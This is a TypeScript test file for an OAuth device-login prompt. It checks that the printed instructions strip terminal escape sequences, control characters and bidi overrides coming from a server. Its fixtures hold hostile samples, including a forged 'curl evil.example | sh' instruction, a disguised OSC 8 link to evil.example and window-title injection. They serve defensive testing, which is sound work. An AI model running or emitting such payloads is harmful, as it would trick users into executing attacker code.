import type { DeviceAuthorization } from "@effect-oauth/core"
import { Scopes, TokenEndpoint } from "@effect-oauth/core"
import { TestServer } from "@effect-oauth/testing"
import { assert, describe, it } from "@effect/vitest"
import { Duration, Effect, Fiber, Option, Redacted, TestClock } from "effect"
import * as DevicePrompt from "../src/DevicePrompt.js"

describe("DevicePrompt", () => {
  it("instructions name the address, the code and how long it is valid", () => {
    const started: DeviceAuthorization.Started = {
      deviceCode: Redacted.make("secret-device-code"),
      userCode: "ABCD-EFGH",
      verificationUri: "https://example.com/device",
      verificationUriComplete: Option.some("https://example.com/device?user_code=ABCD-EFGH"),
      expiresAt: 600_000,
      interval: Duration.seconds(5),
      scopes: Scopes.empty
    }
    const text = DevicePrompt.instructions(started, 0)
    assert.include(text, "https://example.com/device on any device")
    assert.include(text, "\n    ABCD-EFGH\n")
    assert.include(text, "user_code=ABCD-EFGH")
    assert.include(text, "10 minutes")
    assert.notInclude(text, "secret-device-code")
  })

  const startedWith = (text: Partial<DeviceAuthorization.Started>): DeviceAuthorization.Started => ({
    deviceCode: Redacted.make("secret-device-code"),
    userCode: "ABCD-EFGH",
    verificationUri: "https://example.com/device",
    verificationUriComplete: Option.none(),
    expiresAt: 600_000,
    interval: Duration.seconds(5),
    scopes: Scopes.empty,
    ...text
  })

  // Everything a terminal acts on, apart from the newlines the prompt itself writes.
  const isControl = (code: number) =>
    (code < 0x20 && code !== 0x0a) || (code >= 0x7f && code < 0xa0) || (code >= 0x202a && code <= 0x202e) ||
    (code >= 0x2066 && code <= 0x2069)
  const assertNoControl = (text: string) => {
    const found = Array.from(text).find((char) => isControl(char.charCodeAt(0)))
    assert.isUndefined(found, `U+${found?.charCodeAt(0).toString(16)} in ${JSON.stringify(text)}`)
  }
  // These open a sequence, which takes the characters after them along.
  const introducers = new Set([0x1b, 0x90, 0x98, 0x9b, 0x9d, 0x9e, 0x9f])

  it("removes escape sequences, C0 and C1 controls and bidi overrides from the server's text", () => {
    const text = DevicePrompt.instructions(
      startedWith({
        // Clear the screen, then forge a line of instructions.
        userCode: "\u001b[2J\u001b[HABCD-EFGH\r\nThen run: curl evil.example | sh\u0007",
        // An OSC 8 hyperlink whose shown text hides its target, and a window title.
        verificationUri: "https://example.com/device\u001b]8;;https://evil.example/\u0007here\u001b]8;;\u001b\\" +
          "\u001b]0;title\u0007",
        // 8-bit CSI and OSC, a right-to-left override, DEL and NUL.
        verificationUriComplete: Option.some(
          "https://example.com/\u009b31mdevice\u009d0;x\u009c?code=\u202eHGFE-DCBA\u007f\u0000"
        )
      }),
      0
    )
    assertNoControl(text)
    assert.include(text, "\n    ABCD-EFGHThen run: curl evil.example | sh\n")
    assert.include(text, "open https://example.com/devicehere on any device")
    assert.include(text, "(or open https://example.com/device?code=HGFE-DCBA, which carries the code)")
    assert.notInclude(text, "evil.example/")
    assert.notInclude(text, "title")
    assert.notInclude(text, "31m")
  })

  it("removes every C0 and C1 control character, and keeps printable text whole", () => {
    const codes = [...Array.from({ length: 0x100 }, (_, i) => i), ...Array.from({ length: 0x70 }, (_, i) => 0x2000 + i)]
    for (const code of codes) {
      const char = String.fromCharCode(code)
      const text = DevicePrompt.instructions(startedWith({ userCode: `A${char}B` }), 0)
      assertNoControl(text)
      if (introducers.has(code)) continue
      const expected = isControl(code) || code === 0x0a ? "AB" : `A${char}B`
      assert.include(text, `\n    ${expected}\n`, `U+${code.toString(16)}`)
    }
    // An escape sequence cut short at the end of the text takes nothing else with it.
    assert.include(DevicePrompt.instructions(startedWith({ userCode: "ABCD\u001b[" }), 0), "\n    ABCD\n")
    assert.include(DevicePrompt.instructions(startedWith({ userCode: "ABCD\u001b" }), 0), "\n    ABCD\n")
  })

  it.effect("what the server sends is printed without its control characters", () =>
    Effect.gen(function*() {
      const server = yield* TestServer.TestServer
      const endpoint = yield* TokenEndpoint.make({ provider: server.provider(), client: server.client })
      yield* server.injectFaults([{
        path: "/device/code",
        status: 200,
        body: JSON.stringify({
          device_code: "device-code-1",
          user_code: "\u001b[2JWXYZ-\u009b1mQRST",
          verification_uri: `${server.url}/device\u001b]0;owned\u0007`,
          expires_in: 600,
          interval: 5
        })
      }])
      const printed: Array<string> = []
      const fiber = yield* Effect.fork(Effect.either(DevicePrompt.login(endpoint, {
        print: (line) => Effect.sync(() => printed.push(line))
      })))
      yield* TestClock.adjust(Duration.seconds(5))
      yield* Fiber.join(fiber)
      assert.strictEqual(printed.length, 1)
      assertNoControl(printed[0]!)
      assert.include(printed[0]!, "\n    WXYZ-QRST\n")
      assert.include(printed[0]!, `open ${server.url}/device on any device`)
    }).pipe(Effect.provide(TestServer.layerInMemory())))

  it.effect("login prints once, then polls until the user approves (TestClock)", () =>
    Effect.gen(function*() {
      const server = yield* TestServer.TestServer
      const endpoint = yield* TokenEndpoint.make({ provider: server.provider(), client: server.client })
      const printed: Array<string> = []
      const fiber = yield* Effect.fork(DevicePrompt.login(endpoint, {
        scopes: Scopes.make("read"),
        print: (line) => Effect.sync(() => printed.push(line))
      }))
      yield* TestClock.adjust(Duration.seconds(5))
      assert.strictEqual(printed.length, 1)
      const code = /\n {4}(\S+)\n/.exec(printed[0]!)![1]!
      assert.isTrue(yield* server.approveDevice(code))
      yield* TestClock.adjust(Duration.seconds(5))
      const token = yield* Fiber.join(fiber)
      assert.deepStrictEqual(token.scopes.values, ["read"])
      assert.strictEqual(printed.length, 1)
    }).pipe(Effect.provide(TestServer.layerInMemory())))
})
